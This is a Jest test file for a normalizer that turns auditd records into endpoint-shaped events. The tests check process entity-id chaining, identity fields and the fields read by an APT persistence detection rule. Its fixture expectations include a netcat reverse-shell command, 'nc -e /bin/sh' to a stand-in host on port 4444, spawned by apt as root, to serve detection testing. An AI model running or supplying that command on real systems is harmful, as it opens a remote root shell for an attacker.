/**
 * The auditd chain: raw auditd records for apt → `sh -c` → nc, normalized to Defend's shape,
 * give events whose entity ids chain (the child's process.parent.entity_id is the parent's
 * process.entity_id) and carry every field the seed rule "Suspicious APT Package Manager
 * Execution" (persistence_apt_package_manager_execution.toml) reads.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { normalizeLines } from './normalize';
import { getField, type Doc } from './field';

const lines = readFileSync(join(__dirname, 'testdata', 'apt-chain.audit.log'), 'utf8').split('\n');

describe('auditd apt → sh -c → nc chain (endpoint shape)', () => {
  const { events, errors } = normalizeLines(lines, { format: 'auditd', shape: 'endpoint' });
  const byName = (n: string) =>
    events.find((e) => getField(e, 'process.name') === n && getField(e, 'event.action') === 'exec') as Doc;

  it('normalizes every event without errors, in input order', () => {
    expect(errors).toEqual([]);
    expect(events.map((e) => getField(e, 'event.action'))).toEqual([
      'exec',
      'exec',
      'exec',
      'connection_attempted',
    ]);
  });

  it('chains entity ids from the per-host process table', () => {
    const [apt, sh, nc] = [byName('apt'), byName('sh'), byName('nc')];
    expect(getField(sh, 'process.parent.entity_id')).toBe(getField(apt, 'process.entity_id'));
    expect(getField(nc, 'process.parent.entity_id')).toBe(getField(sh, 'process.entity_id'));
    const conn = events[3];
    expect(getField(conn, 'process.entity_id')).toBe(getField(nc, 'process.entity_id'));
    expect(new Set(events.slice(0, 3).map((e) => getField(e, 'process.entity_id'))).size).toBe(3);
  });

  it('carries what the seed rule reads', () => {
    const sh = byName('sh');
    expect(sh).toMatchObject({
      _index: 'logs-endpoint.events.process-default',
      host: { id: 'build-01', os: { type: 'linux' } },
      event: { category: ['process'], type: ['start'], action: 'exec' },
      process: {
        name: 'sh',
        executable: '/usr/bin/dash',
        args: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'],
        command_line: 'sh -c nc -e /bin/sh 203.0.113.7 4444',
        parent: {
          name: 'apt',
          executable: '/usr/bin/apt',
          args: ['apt', 'install', '-y', 'curl'],
          command_line: 'apt install -y curl',
        },
      },
    });
    expect(byName('nc')).toMatchObject({
      process: { name: 'nc', parent: { name: 'sh', args: ['sh', '-c', 'nc -e /bin/sh 203.0.113.7 4444'] } },
    });
  });

  it('carries Defend identity fields (effective and real ids, interactive)', () => {
    expect(byName('sh')).toMatchObject({
      user: { id: '0', name: 'root', Ext: { real: { id: '0', name: 'root' } } },
      group: { id: '0', Ext: { real: { id: '0' } } },
      process: {
        user: { id: '0' },
        real_user: { id: '0' },
        group: { id: '0' },
        interactive: true,
        parent: { user: { id: '0' } },
      },
    });
  });

  it('gives the same ids on every run (stable, derived from host, pid and start time)', () => {
    const again = normalizeLines(lines, { format: 'auditd', shape: 'endpoint' }).events;
    expect(again.map((e) => getField(e, 'process.entity_id'))).toEqual(
      events.map((e) => getField(e, 'process.entity_id')),
    );
  });

  it('follows fork then exec: the child keeps its fork entity id and records the previous image', () => {
    const h = (t: string, s: number) => `node=h type=SYSCALL msg=audit(${t}:${s}):`;
    const lines = [
      `${h('1767225600.000', 1)} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 uid=0 gid=0 tty=(none) comm="bash" exe="/usr/bin/bash"`,
      `node=h type=EXECVE msg=audit(1767225600.000:1): argc=1 a0="bash"`,
      `node=h type=EOE msg=audit(1767225600.000:1):`,
      `${h('1767225600.100', 2)} arch=c000003e syscall=56 success=yes exit=200 a0=1200011 ppid=1 pid=100 uid=0 gid=0 tty=(none) comm="bash" exe="/usr/bin/bash"`,
      `node=h type=EOE msg=audit(1767225600.100:2):`,
      `${h('1767225600.200', 3)} arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=200 uid=0 gid=0 tty=(none) comm="id" exe="/usr/bin/id"`,
      `node=h type=EXECVE msg=audit(1767225600.200:3): argc=1 a0="id"`,
      `node=h type=EOE msg=audit(1767225600.200:3):`,
      `${h('1767225600.300', 4)} arch=c000003e syscall=231 success=yes exit=0 ppid=100 pid=200 uid=0 gid=0 tty=(none) comm="id" exe="/usr/bin/id"`,
      `node=h type=EOE msg=audit(1767225600.300:4):`,
    ];
    const out = normalizeLines(lines, { format: 'auditd', shape: 'endpoint' });
    expect(out.errors).toEqual([]);
    const [bash, fork, exec, end] = out.events;
    expect(out.events.map((e) => getField(e, 'event.action'))).toEqual(['exec', 'fork', 'exec', 'end']);
    expect(getField(fork, 'process.pid')).toBe(200);
    expect(getField(fork, 'process.parent.entity_id')).toBe(getField(bash, 'process.entity_id'));
    expect(getField(exec, 'process.entity_id')).toBe(getField(fork, 'process.entity_id'));
    expect(exec).toMatchObject({
      process: {
        name: 'id',
        previous: { executable: '/usr/bin/bash', args: ['bash'] },
        parent: { name: 'bash' },
        interactive: false,
      },
    });
    expect(getField(end, 'process.entity_id')).toBe(getField(exec, 'process.entity_id'));
  });

  it('keeps the process table bounded', () => {
    const many: string[] = [];
    for (let pid = 100; pid < 400; pid++) {
      const h = `msg=audit(1767225600.${String(pid).padStart(3, '0')}:${pid}):`;
      many.push(
        `node=h type=SYSCALL ${h} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=${pid} uid=0 comm="x" exe="/bin/x"`,
      );
      many.push(`node=h type=EOE ${h}`);
    }
    const out = normalizeLines(many, {
      format: 'auditd',
      shape: 'endpoint',
      processTable: { maxProcessesPerHost: 50 },
    });
    expect(out.errors).toEqual([]);
    expect(out.events).toHaveLength(300);
  });
});
